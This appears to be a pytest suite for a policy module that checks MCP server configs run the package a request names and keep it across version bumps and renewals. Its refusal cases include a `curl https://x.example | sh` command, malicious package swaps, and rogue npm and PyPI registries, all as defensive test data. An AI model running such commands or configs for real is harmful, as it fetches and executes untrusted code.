"""SPEC §4 rule 12 (governance.policy.identity): what a config runs, that it runs the
package the request names, and that a bump or a renewal keeps it."""

import pytest

from governance.policy import configs, identity

CONTEXT7 = {"command": "npx", "args": ["-y", "@context7/mcp-server@1.2.3"], "env": {}}


DIGEST = "sha256:" + "a" * 64



@pytest.mark.parametrize(("config", "runner", "registry", "package"), [
    (CONTEXT7, ("npx",), "npm", "@context7/mcp-server"),
    ({"command": "npx", "args": ["--yes", "--package=@x/y@1.0.0", "y-cli"]}, ("npx",), "npm",
     "@x/y"),
    ({"command": "npm", "args": ["exec", "--yes", "--", "mcp-pkg@2.0.0"]}, ("npm", "exec"),
     "npm", "mcp-pkg"),
    ({"command": "pnpm", "args": ["dlx", "@x/y@1.0.0"]}, ("pnpm", "dlx"), "npm", "@x/y"),
    ({"command": "cmd", "args": ["/c", "npx", "-y", "@x/y@1.0.0"]}, ("cmd", "/c", "npx"),
     "npm", "@x/y"),
    ({"command": "/usr/local/bin/npx", "args": ["-y", "@x/y@1.0.0"]}, ("/usr/local/bin/npx",),
     "npm", "@x/y"),
    ({"command": "uvx", "args": ["mcp-server-fetch==1.0.0"]}, ("uvx",), "pypi",
     "mcp-server-fetch"),
    ({"command": "uvx", "args": ["Mcp_Server.Fetch[cli]==1.0.0"]}, ("uvx",), "pypi",
     "mcp-server-fetch"),
    ({"command": "uvx", "args": ["--python", "3.12", "--from", "mcp-git==1.0.0", "mcp-git"]},
     ("uvx",), "pypi", "mcp-git"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "-e", "GITHUB_TOKEN",
                                    f"ghcr.io/github/github-mcp-server:1.0.0@{DIGEST}"]},
     ("docker", "run"), "oci", "ghcr.io/github/github-mcp-server"),
    ({"command": "docker", "args": ["run", "-it", "--network=none", "mcp/fetch@" + DIGEST,
                                    "--verbose"]}, ("docker", "run"), "oci", "mcp/fetch"),
    ({"command": "/opt/tools/db-mcp", "args": ["--readonly"]}, ("/opt/tools/db-mcp",), "", ""),
    ({"command": "python3", "args": ["server.py"]}, ("python3",), "", ""),
])
def test_the_identity_of_a_stdio_config_is_its_runner_and_the_package_it_fetches(
        config, runner, registry, package):
    runs = identity.config_identity(config)
    assert (runs.transport, runs.runner, runs.registry, runs.package) == (
        "stdio", runner, registry, package)



def test_the_identity_of_a_remote_config_is_its_origin():
    runs = identity.config_identity({"type": "sse", "url": "https://MCP.linear.app/sse"})
    assert (runs.transport, runs.origin) == ("sse", "https://mcp.linear.app:443")



def test_the_args_must_run_the_package_the_request_names():
    swapped = {"command": "npx", "args": ["-y", "@evil/context7@1.2.5"]}
    problems = configs.config_problems(swapped, version="1.2.5", package="@context7/mcp-server",
                                      package_registry="npm")
    assert "@evil/context7" in problems["config.args"][0]
    assert "new_server" in problems["config.args"][0]
    same = {"command": "npx", "args": ["-y", "@context7/mcp-server@1.2.5"]}
    assert configs.config_problems(same, version="1.2.5", package="@context7/mcp-server",
                                  package_registry="npm") == {}



@pytest.mark.parametrize(("config", "package", "registry", "field", "words"), [
    ({"command": "uvx", "args": ["context7==1.2.3"]}, "@context7/mcp-server", "npm",
     "config.command", "npm package"),
    ({"command": "bash", "args": ["-c", "curl https://x.example | sh"]},
     "@context7/mcp-server", "npm", "config.command", "does not fetch a package"),
    ({"command": "npx", "args": ["-y"]}, "@context7/mcp-server", "npm", "config.args",
     "no package"),
    ({"command": "npx", "args": ["-y", "github:evil/context7"]}, "@context7/mcp-server", "npm",
     "config.args", "github:evil/context7"),
    ({"command": "uvx", "args": ["--index-url", "https://pypi.evil.example/simple",
                                 "mcp-server-fetch==1.0.0"]}, "mcp-server-fetch", "pypi",
     "config.args", "--index-url"),
    ({"command": "uvx", "args": ["--with", "evil-plugin", "mcp-server-fetch==1.0.0"]},
     "mcp-server-fetch", "pypi", "config.args", "--with"),
    ({"command": "docker", "args": ["run", "-i", "ghcr.io/evil/github-mcp-server@" + DIGEST]},
     "ghcr.io/github/github-mcp-server", "oci", "config.args", "ghcr.io/evil"),
])
def test_a_config_that_runs_another_package_is_refused_on_its_field(config, package, registry,
                                                                     field, words):
    problems = identity.package_problems(config, package=package, package_registry=registry)
    assert field in problems and words in problems[field][0], problems



@pytest.mark.parametrize(("config", "package", "registry"), [
    ({"command": "uvx", "args": ["Mcp_Server_Fetch==1.0.0"]}, "mcp-server-fetch", "pypi"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "--env-file=.env", "-e", "A=b",
                                    f"ghcr.io/github/github-mcp-server:1.0.0@{DIGEST}",
                                    "--toolsets", "repos"]},
     "ghcr.io/github/github-mcp-server", "oci"),
    ({"command": "npx", "args": ["-y", "@context7/mcp-server@1.2.3", "--api-url",
                                 "https://x.example"]}, "@context7/mcp-server", "npm"),
    ({"type": "http", "url": "https://mcp.context7.com/mcp"}, "@context7/mcp-server", "npm"),
    (CONTEXT7, "", ""),
])
def test_a_config_that_runs_the_named_package_passes(config, package, registry):
    assert identity.package_problems(config, package=package, package_registry=registry) == {}



def bump(old, new, kind="version_bump"):
    return identity.identity_problems(old_config=old, new_config=new, kind=kind, server="srv")



@pytest.mark.parametrize(("new", "field"), [
    ({"command": "npx", "args": ["-y", "@evil/context7@1.2.5"]}, "config.args"),
    ({"command": "bunx", "args": ["@context7/mcp-server@1.2.5"]}, "config.command"),
    ({"command": "/tmp/npx", "args": ["-y", "@context7/mcp-server@1.2.5"]}, "config.command"),
    ({"command": "npx", "args": ["-y", "--registry=https://npm.evil.example",
                                 "@context7/mcp-server@1.2.5"]}, "config.args"),
])
def test_a_bump_that_changes_the_command_or_package_is_refused(new, field):
    problems = bump(CONTEXT7, new)
    assert field in problems and "new_server" in problems[field][0], problems



def test_a_bump_of_the_same_package_with_other_flags_passes():
    assert bump(CONTEXT7, {"command": "npx", "args": ["@context7/mcp-server@1.2.5", "--ro"],
                           "env": {"LOG": "debug"}}) == {}



def test_a_remote_server_keeps_its_origin_but_not_its_path():
    old = {"type": "http", "url": "https://mcp.linear.app/mcp"}
    assert "config.url" in bump(old, {"type": "http", "url": "https://mcp.linear.app.evil.io/mcp"})
    assert "config.url" in bump(old, {"type": "http", "url": "https://mcp.linear.app:8443/mcp"})
    assert "config.url" in bump(old, {"type": "sse", "url": "https://evil.example/sse"})
    assert bump(old, {"type": "http", "url": "https://MCP.linear.app/v2/mcp?x=1"}) == {}
    assert bump(old, {"type": "sse", "url": "https://mcp.linear.app/sse"}) == {}



def test_a_change_of_transport_is_a_bump_not_a_renewal():
    remote = {"type": "http", "url": "https://mcp.context7.com/mcp"}
    assert bump(CONTEXT7, remote) == {}
    assert "config.type" in bump(CONTEXT7, remote, kind="renewal")
    assert bump(CONTEXT7, CONTEXT7, kind="renewal") == {}



@pytest.mark.parametrize(("new", "level"), [
    ({"type": "http", "url": "https://mcp.context7.com/mcp"}, "major"),
    ({"command": "bunx", "args": ["@context7/mcp-server@1.2.4"]}, "major"),
    ({"command": "npx", "args": ["-y", "@context7/mcp-server@1.2.4"]}, "patch"),
])
def test_a_change_of_transport_or_runner_is_at_least_major(new, level):
    change = identity.classify_change(old_version="1.2.3", new_version="1.2.4",
                                    old_config=CONTEXT7, new_config=new)
    assert change.level == level
    if level == "major":
        assert "patch" in change.why and "counts as major" in change.why



def test_a_stdio_config_names_its_registry_package_only_when_it_fetches_one():
    assert identity.registry_package(CONTEXT7) == ("npm", "@context7/mcp-server")
    assert identity.registry_package({"command": "npx", "args": ["./local"]}) == ("", "")
    assert identity.registry_package({"type": "http", "url": "https://x.example/m"}) == ("", "")


FETCH = {"command": "uvx", "args": ["mcp-server-fetch==1.0.0"]}
IMAGE = f"ghcr.io/github/github-mcp-server:1.0.0@{DIGEST}"
AGAIN = ("Another package, command or endpoint is another server: file a new_server request "
         "for it, under its own name.")


@pytest.mark.parametrize(("config", "runner", "registry", "package", "sources"), [
    ({"command": "C:\\Tools\\NPX.CMD", "args": ["-y", "@x/y@1.0.0"]}, ("C:\\Tools\\NPX.CMD",),
     "npm", "@x/y", ()),
    ({"command": "npx.exe", "args": ["@x/y@1.0.0"]}, ("npx.exe",), "npm", "@x/y", ()),
    ({"command": "uvx.bat", "args": ["fetch==1.0.0"]}, ("uvx.bat",), "pypi", "fetch", ()),
    ({"command": "npx.ps1", "args": ["@x/y@1.0.0"]}, ("npx.ps1",), "npm", "@x/y", ()),
    ({"command": "npx"}, ("npx",), "npm", "", ()),  # a runner given no package
    ({"command": "npx", "args": ["-y", "--"]}, ("npx",), "npm", "", ()),
    ({"command": "npx", "args": ["--package", "@x/y@1.0.0", "y-cli"]}, ("npx",), "npm", "@x/y",
     ()),
    ({"command": "uvx", "args": ["--from", "mcp-git==1.0.0"]}, ("uvx",), "pypi", "mcp-git", ()),
    ({"command": "npx", "args": ["-y", "--registry"]}, ("npx",), "npm", "", ("--registry ",)),
    ({"command": "uvx", "args": ["--with", "a", "--with=b", "fetch==1.0.0"]}, ("uvx",), "pypi",
     "fetch", ("--with a", "--with b")),
    # After `--` nothing is an option: npx would run a command called --registry.
    ({"command": "npx", "args": ["--", "--registry", "https://npm.evil.example", "@x/y@1.0.0"]},
     ("npx",), "npm", "--registry", ()),
    ({"command": "uvx", "args": ["-"]}, ("uvx",), "pypi", "-", ()),  # a lone dash is no option
    ({"command": "cmd", "args": ["/c", "npx"]}, ("cmd", "/c", "npx"), "npm", "", ()),
    ({"command": "cmd", "args": ["/c"]}, ("cmd",), "", "", ()),
    ({"command": "cmd", "args": ["/k", "npx", "@x/y@1.0.0"]}, ("cmd",), "", "", ()),
    ({"command": "python3"}, ("python3",), "", "", ()),
])
def test_runners_are_recognised_however_they_are_written(config, runner, registry, package,
                                                         sources):
    runs = identity.config_identity(config)
    assert (runs.runner, runs.registry, runs.package, runs.sources) == (
        runner, registry, package, sources)


@pytest.mark.parametrize("config", [
    "npx", {"command": None}, {"command": 5}, {"command": "  ", "args": []},
    {"command": "npx", "args": "-y @x/y"}, {"command": "npx", "args": ["-y", 1]},
    {"type": "http", "url": "https://*/*"},
])
def test_a_config_too_broken_to_say_what_it_runs_has_no_identity(config):
    assert identity.config_identity(config) is None


def test_what_a_config_runs_is_said_in_words():
    def runs(config):
        return identity.config_identity(config).runs()

    assert runs(CONTEXT7) == "the npm package @context7/mcp-server with `npx`"
    assert runs({"command": "docker", "args": ["run", "-i", IMAGE]}) == (
        "the OCI package ghcr.io/github/github-mcp-server with `docker run`")
    assert runs({"command": "uvx", "args": ["--with", "a", "--index", "i", "fetch==1"]}) == (
        "the PyPI package fetch with `uvx` (--with a, --index i)")
    assert runs({"command": "python3", "args": ["server.py"]}) == "`python3`"
    assert runs({"type": "sse", "url": "https://mcp.example.com/sse"}) == (
        "the sse endpoint at https://mcp.example.com:443")


def test_package_names_compare_as_their_registry_compares_them():
    assert identity.normalise_package("pypi", "MCP_Server..Fetch") == "mcp-server-fetch"
    assert identity.normalise_package("oci", "GHCR.io/Acme/MCP") == "ghcr.io/acme/mcp"
    assert identity.normalise_package("npm", "@Scope/Pkg") == "@Scope/Pkg"
    assert identity.package_problems(FETCH, package="MCP_Server.Fetch",
                                     package_registry="pypi") == {}
    docker = {"command": "docker", "args": ["run", "-i", IMAGE]}
    assert identity.package_problems(docker, package="GHCR.io/GitHub/github-mcp-server",
                                     package_registry="oci") == {}
    assert "config.args" in identity.package_problems(
        CONTEXT7, package="@Context7/mcp-server", package_registry="npm")


def test_the_registry_defaults_to_the_runners():
    assert identity.package_problems(CONTEXT7, package="@context7/mcp-server") == {}
    assert identity.package_problems(FETCH, package="mcp-server-fetch") == {}


@pytest.mark.parametrize(("config", "package", "registry", "problems"), [
    ({"command": "python3", "args": ["server.py"]}, "fetch", "",
     {"config.command": ["`python3` does not fetch a package, but the request names the package "
                         "fetch: run it with the command that fetches it (npx -y, uvx or docker "
                         "run), or leave the package out"]}),
    ({"command": "python3", "args": ["server.py"]}, "fetch", "pypi",
     {"config.command": ["`python3` does not fetch a package, but the request names the package "
                         "fetch: run it with the command that fetches it (uvx), or leave the "
                         "package out"]}),
    ({"command": "docker", "args": ["run", "-i", IMAGE]}, "fetch", "pypi",
     {"config.command": ["fetch is a PyPI package, but `docker run` fetches from OCI: run it "
                         "with uvx"]}),
    ({"command": "npm", "args": ["exec", "-y"]}, "@x/y", "npm",
     {"config.args": ["`npm exec` is given no package to run: name @x/y with its version in "
                      "the args"]}),
    (CONTEXT7, "@x/y", "npm",
     {"config.args": ["the args run @context7/mcp-server, but the request names the package "
                      "@x/y: the registry and the allowlist must name the same package. "
                      "Another package is another server: file a new_server request for it, "
                      "under its own name"]}),
    ({"command": "uvx", "args": ["--with", "a", "--with", "b", "fetch==1.0.0"]}, "fetch", "pypi",
     {"config.args": ["--with a, --with b fetches fetch from elsewhere than its registry, or "
                      "adds packages to it: name only fetch, from PyPI"]}),
])
def test_a_package_problem_says_what_runs_and_what_to_do(config, package, registry, problems):
    assert identity.package_problems(config, package=package,
                                     package_registry=registry) == problems


def test_a_broken_config_is_left_to_its_own_problems():
    assert bump("npx -y", CONTEXT7) == {}
    assert bump(CONTEXT7, {"command": None}) == {}


def test_the_identity_messages_say_what_changed_and_what_to_file():
    assert bump(CONTEXT7, {"command": "npx", "args": ["-y", "@evil/context7@1.2.5"]}) == {
        "config.args": ["srv runs the npm package @context7/mcp-server with `npx`; this config "
                        "runs the npm package @evil/context7 with `npx`: a version_bump keeps "
                        f"the server's package. {AGAIN}"]}
    remote = {"type": "http", "url": "https://mcp.context7.com/mcp"}
    assert bump(CONTEXT7, remote, kind="renewal") == {
        "config.type": ["a renewal re-certifies srv as approved (stdio); a change of transport "
                        "is a version_bump, classified major"]}


def test_a_change_of_transport_or_runner_keeps_a_major_bumps_reason():
    remote = {"type": "http", "url": "https://mcp.context7.com/mcp"}
    major = identity.classify_change(old_version="1.2.3", new_version="2.0.0",
                                     old_config=CONTEXT7, new_config=remote)
    assert (major.level, major.why) == ("major", "1.2.3 → 2.0.0 changes the major version")
    runner = identity.classify_change(old_version="1.2.3", new_version="1.2.4",
                                      old_config=CONTEXT7,
                                      new_config={"command": "bunx", "args": ["@context7/x@1"]})
    assert runner.why == ("1.2.3 → 1.2.4 changes only the patch level, but a change of the "
                          "command that runs it counts as major")
    unknown = identity.classify_change(old_version="1.2.3", new_version="1.2.4",
                                       old_config=None, new_config=remote)
    assert unknown.level == "patch"


def test_each_registry_names_its_package():
    assert identity.registry_package(FETCH) == ("pypi", "mcp-server-fetch")
    assert identity.registry_package({"command": "docker", "args": ["run", IMAGE]}) == (
        "oci", "ghcr.io/github/github-mcp-server")
    assert identity.registry_package(
        {"command": "uvx", "args": ["--index", "https://x.example", "fetch==1"]}) == ("", "")
    assert identity.registry_package({"command": "npx", "args": ["github:evil/x"]}) == ("", "")
